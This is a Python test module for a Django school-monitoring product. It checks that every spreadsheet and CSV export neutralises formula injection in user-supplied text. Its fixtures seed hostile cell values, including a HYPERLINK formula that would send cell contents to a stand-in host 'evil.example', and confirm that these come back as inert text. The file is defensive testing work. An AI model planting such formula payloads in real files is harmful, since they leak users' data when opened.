"""No workbook or CSV file the product writes holds a live formula, whatever people typed.

An organisation's name, a measure's text and note, an evidence title, a subject or a cell of an
uploaded file start with = + - @, a tab or a carriage return; every export URL (found from the URL
configuration, so a new one fails here until it is walked), every admin export and every command
that writes a file is run, and:

* no sheet XML of an .xlsx has an <f> element, and the hostile text reads back unchanged;
* no CSV field starts with a formula character unless it is a plain number (-5 is a number, not a
  formula); text has the apostrophe in front (config/lib/xlsx.py says why).
"""

import csv
import importlib.util
import io
import re
import zipfile
from datetime import date
from pathlib import Path
from urllib.parse import quote

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from config.lib.xlsx import FORMULA_START
from monitoring.analysis.services import example_method_load, indicators_load, method_approve
from monitoring.indicators import indicators_compute
from monitoring.models import EgeMinScore, IndicatorDefinition, IndicatorValue, ResultImport, SchoolStat
from monitoring.services import result_import_apply, result_import_create
from monitoring.zoning import zones_compute
from reports.models import Publication, ReportFile
from reports.testing import build_roadmap
from roadmaps.models import Assignment, Evidence, EvidenceKind, Measure
from schools.models import Organization

spec = importlib.util.spec_from_file_location(
    "analysis_fixtures", Path(__file__).parents[1] / "monitoring" / "analysis_fixtures.py"
)
fixtures = importlib.util.module_from_spec(spec)
spec.loader.exec_module(fixtures)

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Подробнее")'
HOSTILE = [LINK, "+1+1", "-2+3", "@SUM(1;2)", "\t=1+1", "\r=1+1"]


# --------------------------------------------------------------------------- what the files must not hold


def assert_no_formulas_in_xlsx(data: bytes, *, expect: tuple[str, ...] = ()) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                assert not re.search(r"<(\w+:)?f[\s>/]", xml), f"a formula in {name}"
    texts = {str(cell.value) for sheet in load_workbook(io.BytesIO(data)) for row in sheet.iter_rows() for cell in row}
    for hostile in expect:
        assert any(hostile in text for text in texts), f"{hostile!r} did not read back as it was"


def _plain_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(?:[.,]\d+)?", text) is not None


def assert_no_formulas_in_csv(data: bytes, *, expect: tuple[str, ...] = ()) -> None:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.count(";") >= text.count(",") else ","
    fields = [field for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for field in row]
    for field in fields:
        assert not field.startswith(FORMULA_START) or _plain_number(field), f"formula-like CSV field {field!r}"
    for hostile in expect:
        assert any(field == "'" + hostile or field.startswith("'" + hostile) for field in fields), hostile


def assert_safe(data: bytes, kind: str, *, expect: tuple[str, ...] = ()) -> None:
    if kind == "xlsx":
        assert data[:2] == b"PK", "not a workbook"
        assert_no_formulas_in_xlsx(data, expect=expect)
    else:
        assert_no_formulas_in_csv(data, expect=expect)


# --------------------------------------------------------------------------- people's text everywhere


@pytest.fixture
def world(municipality, authority, school_a, school_b, methodist, official):
    school_a.short_name, school_a.full_name, school_a.address = LINK, "+1+1 полное", "-2+3, с. Новое"
    school_a.head_name, school_a.phone = "@SUM(1;2)", "+7 (845) 000-00-00"
    school_a.save()
    Organization.objects.create(
        municipality=municipality, code="=2+2", kind=Organization.Kind.SCHOOL, short_name="\t=1+1", full_name="\r=1+1"
    )

    roadmap = build_roadmap(authority, sections=1, measures=2)
    first, second = Measure.objects.filter(section__roadmap=roadmap).order_by("order")
    Measure.objects.filter(pk=first.pk).update(description=LINK, note="-2+3", expected_result="@SUM(1;2)")
    Measure.objects.filter(pk=second.pk).update(description="+1+1", deadline_text="\t=1+1")
    done = Assignment.objects.create(
        measure=first, organization=school_a, due_date=date(2022, 10, 1), status=Assignment.Status.ACCEPTED
    )
    Evidence.objects.create(
        assignment=done,
        kind=EvidenceKind.objects.order_by("order").first(),
        title="=1+1",
        number="-5+5",
        link="https://school.example/prikaz",
    )

    indicators_load()
    fixtures.build_results(school_a, school_b)
    indicators_compute(year=2024)
    IndicatorValue.objects.create(
        indicator=IndicatorDefinition.objects.order_by("order").first(), year=2024, municipality=municipality,
        organization=school_a, subject=LINK, numerator=1, denominator=2, value=50.0,
    )  # fmt: skip
    method = example_method_load(municipality=municipality, year=2024)
    method_approve(method=method, by=official, order_number="15-о", order_date=date(2024, 9, 1))
    zones_compute(method=method)
    EgeMinScore.objects.create(year=2030, subject=LINK, min_score=24)

    # An upload with children's names (so the kept copy is rewritten) and a rejected hostile row.
    header = ["Код ОО", "ФИО", "Класс", "Предмет", "Отметка"]
    rows = [[school_a.code, "Иванов Иван", "5а", "Математика", 4], ["sch404", "Петров Пётр", LINK, "+1+1", 4]]
    csv_data = ("\r\n".join(";".join(map(str, row)) for row in [header, *rows]) + "\r\n").encode("utf-8")
    imports = {}
    for name, data in (("upload.csv", csv_data), ("upload.xlsx", _xlsx([header, *rows]))):
        result_import = result_import_create(
            municipality=municipality, data=data, filename=name, kind="vpr", year=2030, user=methodist
        )
        result_import_apply(result_import=result_import, accept_partial=True)
        result_import.refresh_from_db()
        assert result_import.status == ResultImport.Status.IMPORTED and result_import.summary["kept"]["rewritten"]
        imports[name] = result_import
    Publication.objects.create(municipality=municipality, kind=Publication.Kind.INDICATORS, year=2024, title="2024")
    return {"roadmap": roadmap, "method": method, "imports": imports, "municipality": municipality}


def _xlsx(rows) -> bytes:
    """An upload whose hostile cells are text (a formula cell would be read as its cached value)."""
    from openpyxl import Workbook

    from config.lib.xlsx import safe_row

    book = Workbook()
    for row in rows:
        book.active.append(safe_row(book.active, row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --------------------------------------------------------------------------- every export URL


def export_urls(world) -> dict[str, tuple[str, str, tuple[str, ...]]]:
    """URL name → (address, kind, hostile texts expected back)."""
    roadmap, method, imports = world["roadmap"], world["method"], world["imports"]
    return {
        "registry:export": (reverse("registry:export"), "xlsx", (LINK, "+1+1 полное", "-2+3, с. Новое", "@SUM(1;2)")),
        "monitoring:values_export[csv]": (reverse("monitoring:values_export", args=["csv"]), "csv", (LINK,)),
        # the open page's values: the school's own row is of a group too small to publish
        "public:values[csv]": (reverse("public:values", args=[world["municipality"].pk, "csv"]), "csv", ()),
        "monitoring:values_export[xlsx]": (reverse("monitoring:values_export", args=["xlsx"]), "xlsx", (LINK,)),
        "monitoring:zones_export[csv]": (reverse("monitoring:zones_export", args=[method.pk, "csv"]), "csv", (LINK,)),
        "monitoring:zones_export[xlsx]": (
            reverse("monitoring:zones_export", args=[method.pk, "xlsx"]),
            "xlsx",
            (LINK,),
        ),
        "reports:roadmap_xlsx": (reverse("reports:roadmap_xlsx", args=[roadmap.pk]), "xlsx", (LINK, "+1+1", "-2+3")),
        "reports:roadmap_execution": (
            reverse("reports:roadmap_execution", args=[roadmap.pk]),
            "xlsx",
            (LINK, "=1+1"),
        ),
        "results:import_rejected[csv]": (
            reverse("results:import_rejected", args=[imports["upload.csv"].pk]),
            "xlsx",
            (LINK, "+1+1"),
        ),
        "results:import_rejected[xlsx]": (
            reverse("results:import_rejected", args=[imports["upload.xlsx"].pk]),
            "xlsx",
            (LINK, "+1+1"),
        ),
        "results:import_file[csv]": (
            reverse("results:import_file", args=[imports["upload.csv"].pk]),
            "csv",
            (LINK, "+1+1"),
        ),
        "results:import_file[xlsx]": (
            reverse("results:import_file", args=[imports["upload.xlsx"].pk]),
            "xlsx",
            (LINK, "+1+1"),
        ),
        # the context template lists the municipality's schools by their registry names
        "context:template": (
            reverse("context:template") + f"?municipality={world['municipality'].pk}",
            "xlsx",
            (LINK,),
        ),
        # the region's comparison: municipality names and indicator names, written by the safe writer
        "region:export": (
            reverse("region:export", args=["xlsx"]) + f"?region={quote(world['municipality'].region)}",
            "xlsx",
            (),
        ),
        # the template holds no one's text, only the product's: written through the same safe writer
        "results:import_template": (reverse("results:import_template", args=["students"]), "xlsx", ("Код ОО",)),
    }


#: URLs that serve files of other kinds: PDFs, and the uploaded evidence byte for byte.
NOT_SPREADSHEETS = {
    "execution:evidence_download",
    "recommendations:file",  # a school's documents on a recommendation, byte for byte like evidence
    "reports:zoning_pdf",
    "reports:recommendation_pdf",
    "reports:effectiveness_pdf",
    "public:file",  # a published PDF
    "reports:publish_file",  # publishes a kept file: no file comes back
    "reports:roadmap_pdf",
    "reports:order_pdf",
    "reports:spravka_pdf",  # a PDF of an analytic report (its Word file is text and tables, no cell formula)
    "selfassessment:pdf",  # the self-assessment report (its Word file likewise)
}
#: Documents are asked for with POST; a job renders and keeps them, and the kept file is checked.
POSTED = {
    "reports:roadmap_xlsx": {},
    "reports:roadmap_execution": {"date_from": "2022-09-01", "date_to": "2023-08-31", "format": "xlsx"},
}


def spreadsheet_url_names() -> set[str]:
    """Every URL of the project whose route or name speaks of a file, an export or a download."""
    found = set()

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                if pattern.namespace == "admin":
                    continue  # the admin's exports are walked below
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and pattern.name:
                text = f"{pattern.pattern} {pattern.name}".lower()
                if re.search(r"xlsx|csv|pdf|export|download|file|rejected|fmt|execution$", text):
                    found.add(f"{namespace}:{pattern.name}")

    walk(get_resolver().url_patterns, "")
    return found


def test_every_file_url_is_walked_here(world):
    walked = {name.split("[")[0] for name in export_urls(world)} | {"reports:file"}
    assert spreadsheet_url_names() - NOT_SPREADSHEETS - walked == set()


@pytest.mark.parametrize(
    "name",
    [
        "registry:export",
        "monitoring:values_export[csv]",
        "monitoring:values_export[xlsx]",
        "monitoring:zones_export[csv]",
        "monitoring:zones_export[xlsx]",
        "reports:roadmap_xlsx",
        "reports:roadmap_execution",
        "results:import_rejected[csv]",
        "results:import_rejected[xlsx]",
        "results:import_file[csv]",
        "results:import_file[xlsx]",
        "results:import_template",
    ],
)
def test_export_url_writes_no_formula(world, client_for, methodist, name, django_capture_on_commit_callbacks):
    url, kind, expect = export_urls(world)[name]
    client = client_for(methodist)
    if name in POSTED:
        with django_capture_on_commit_callbacks(execute=True):
            client.post(url, POSTED[name])
        url = reverse("reports:file", args=[ReportFile.objects.get(filename__endswith=".xlsx").pk])
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert_safe(data, kind, expect=expect)


# --------------------------------------------------------------------------- the admin's exports


#: admin «app_model» → (its resource's form prefix, hostile texts expected back)
ADMIN_EXPORTS = {
    "schools_organization": ("organizationresource", (LINK, "\t=1+1")),
    "monitoring_egeminscore": ("egeminscoreresource", (LINK,)),
    "monitoring_schoolstat": ("schoolstatresource", (LINK,)),
}


def test_every_admin_export_is_walked_here():
    exporting = {
        f"{model._meta.app_label}_{model._meta.model_name}"
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    }
    assert exporting == set(ADMIN_EXPORTS)


@pytest.mark.parametrize(("fmt", "kind"), [("0", "csv"), ("1", "xlsx")])
@pytest.mark.parametrize("admin_name", sorted(ADMIN_EXPORTS))
def test_admin_export_writes_no_formula(world, client_for, admin_user, admin_name, fmt, kind):
    if admin_name == "monitoring_schoolstat":
        assert SchoolStat.objects.filter(organization__short_name=LINK).exists()  # made by the import above
    resource, expect = ADMIN_EXPORTS[admin_name]
    model_admin = next(
        a for m, a in admin.site._registry.items() if f"{m._meta.app_label}_{m._meta.model_name}" == admin_name
    )
    fields = model_admin.get_export_resource_classes(None)[0]().get_export_order()
    data = {"format": fmt, "resource": "0", **{f"{resource}_{field}": "on" for field in fields}}
    response = client_for(admin_user).post(reverse(f"admin:{admin_name}_export"), data)
    assert response.status_code == 200 and response.get("Content-Disposition", "").startswith("attachment")
    assert_safe(response.content, kind, expect=expect)


def test_the_admin_offers_only_the_safe_formats(client_for, admin_user, db):
    page = client_for(admin_user).get(reverse("admin:schools_organization_export")).content.decode()
    assert re.findall(r'<option value="(\d+)"[^>]*>\s*([a-z]+)', page) == [("0", "csv"), ("1", "xlsx")]


# --------------------------------------------------------------------------- commands


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_indicators_writes_no_formula(world, tmp_path, suffix):
    path = tmp_path / f"values.{suffix}"
    call_command("export_indicators", "--year", "2024", "--out", str(path), stdout=io.StringIO())
    assert_safe(path.read_bytes(), suffix, expect=(LINK,))


def test_export_roadmap_writes_no_formula(world, tmp_path):
    path = tmp_path / "plan.xlsx"
    call_command("export_roadmap", str(world["roadmap"].pk), "--out", str(path), stdout=io.StringIO())
    assert_safe(path.read_bytes(), "xlsx", expect=(LINK, "+1+1", "-2+3", "@SUM(1;2)"))


def test_every_command_that_writes_a_file_is_walked_here():
    root = Path(__file__).resolve().parents[2]
    writers = {
        path.stem
        for path in root.glob("*/management/commands/*.py")
        if "--out" in path.read_text(encoding="utf-8") and ".venv" not in path.parts
    }
    assert writers == {"export_indicators", "export_roadmap", "render_roadmap", "render_order"}
    # render_roadmap and render_order write PDFs.


# --------------------------------------------------------------------------- read back


def test_the_product_reads_its_own_csv_back(world, client_for, methodist, municipality, school_a):
    """The kept copy of a CSV upload went out with apostrophes; uploaded again it is the same file."""
    kept = world["imports"]["upload.csv"]
    response = client_for(methodist).get(reverse("results:import_file", args=[kept.pk]))
    data = b"".join(response.streaming_content)
    assert b"'+1+1" in data
    again = result_import_create(municipality=municipality, data=data, filename="again.csv", kind="vpr", year=2031)
    outcome = result_import_apply(result_import=again, accept_partial=True)
    problems = {(problem["row"], problem["column"]): problem["value"] for problem in outcome.problems}
    assert problems == {(3, "Класс"): LINK}  # the cell as it was uploaded, without the apostrophe
    assert outcome.imported == 1


def test_a_negative_number_in_a_csv_stays_a_number():
    from config.lib.xlsx import csv_text

    text = csv_text(["Показатель", "Значение"], [["-2+3", -5], ["x", -0.5]], delimiter=";")
    assert text.splitlines() == ["Показатель;Значение", "'-2+3;-5", "x;-0.5"]
